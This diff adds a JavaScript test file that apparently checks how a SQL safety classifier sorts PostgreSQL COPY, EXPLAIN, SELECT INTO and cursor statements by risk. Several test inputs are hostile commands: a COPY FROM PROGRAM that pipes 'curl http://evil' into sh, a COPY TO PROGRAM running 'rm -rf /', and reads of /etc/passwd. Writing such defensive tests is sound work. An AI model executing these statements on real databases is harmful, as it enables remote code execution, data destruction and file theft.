@@ -1,0 +1,63 @@
+// COPY, EXPLAIN and SELECT INTO: what they really do decides the category.
+import { sqlCases } from '../testing/sql-cases.js';
+
+sqlCases('COPY, EXPLAIN and SELECT INTO', [
+  { sql: 'COPY users FROM STDIN', category: 'write', tables: ['users'], copyProgram: false },
+  { sql: 'COPY users (id, name) FROM STDIN WITH (FORMAT csv)', category: 'write' },
+  { sql: "COPY users FROM '/etc/passwd'", category: 'write', copyProgram: false },
+  { sql: "COPY users FROM PROGRAM 'curl http://evil | sh'", category: 'write', copyProgram: true },
+  { sql: "copy users from program 'id'", copyProgram: true },
+  { sql: "COPY (SELECT 1) TO PROGRAM 'rm -rf /'", category: 'admin', copyProgram: true },
+  { sql: "COPY users TO '/tmp/users.csv'", category: 'admin', copyProgram: false },
+  { sql: 'COPY users TO STDOUT', category: 'read', tables: ['users'] },
+  { sql: 'COPY (SELECT * FROM secrets) TO STDOUT', category: 'read', tables: ['secrets'] },
+  {
+    sql: 'COPY (DELETE FROM users RETURNING *) TO STDOUT',
+    category: 'write',
+    statements: ['CopyStmt', 'DeleteStmt'],
+    where: 'absent',
+  },
+  {
+    sql: 'EXPLAIN ANALYZE DELETE FROM users',
+    category: 'write',
+    statements: ['ExplainStmt', 'DeleteStmt'],
+    where: 'absent',
+  },
+  {
+    sql: 'EXPLAIN (ANALYZE) UPDATE users SET a = 1',
+    category: 'write',
+    statements: ['ExplainStmt', 'UpdateStmt'],
+  },
+  { sql: 'EXPLAIN (ANALYZE true, BUFFERS) INSERT INTO t VALUES (1)', category: 'write' },
+  {
+    sql: 'EXPLAIN (ANALYZE off) DELETE FROM users',
+    category: 'write',
+    statements: ['ExplainStmt', 'DeleteStmt'],
+  },
+  { sql: 'EXPLAIN (FORMAT json, ANALYZE 1) DELETE FROM users', category: 'write' },
+  {
+    sql: 'EXPLAIN ANALYZE WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d',
+    category: 'write',
+    statements: ['ExplainStmt', 'DeleteStmt'],
+  },
+  { sql: 'EXPLAIN ANALYZE SELECT * FROM users', category: 'read', statements: ['ExplainStmt'] },
+  { sql: 'EXPLAIN ANALYZE SELECT * FROM users FOR UPDATE', category: 'write' },
+  { sql: 'EXPLAIN DELETE FROM users', category: 'read', statements: ['ExplainStmt'], tables: ['users'] },
+  { sql: 'EXPLAIN (FORMAT json) DELETE FROM users', category: 'read', statements: ['ExplainStmt'] },
+  { sql: "EXPLAIN SELECT pg_read_file('/x')", category: 'read', functions: ['pg_read_file'] },
+  {
+    sql: 'EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT * FROM users',
+    category: 'write',
+    statements: ['ExplainStmt', 'CreateTableAsStmt'],
+  },
+  { sql: 'SELECT * INTO new_table FROM users', category: 'write', tables: ['new_table', 'users'] },
+  { sql: 'SELECT 1 INTO TEMP t', category: 'write' },
+  { sql: 'CREATE TABLE t2 AS SELECT * FROM users', category: 'write', tables: ['t2', 'users'] },
+  { sql: 'CREATE TABLE t2 AS TABLE users WITH NO DATA', category: 'write' },
+  { sql: 'CREATE MATERIALIZED VIEW mv AS SELECT * FROM users', category: 'ddl' },
+  { sql: 'REFRESH MATERIALIZED VIEW mv', category: 'write' },
+  { sql: 'DECLARE c CURSOR FOR SELECT * FROM users', category: 'read', tables: ['users'] },
+  { sql: 'DECLARE c CURSOR FOR SELECT * FROM users FOR UPDATE', category: 'write' },
+  { sql: 'FETCH 10 FROM c', category: 'read' },
+  { sql: 'SHOW search_path', category: 'read' },
+]);
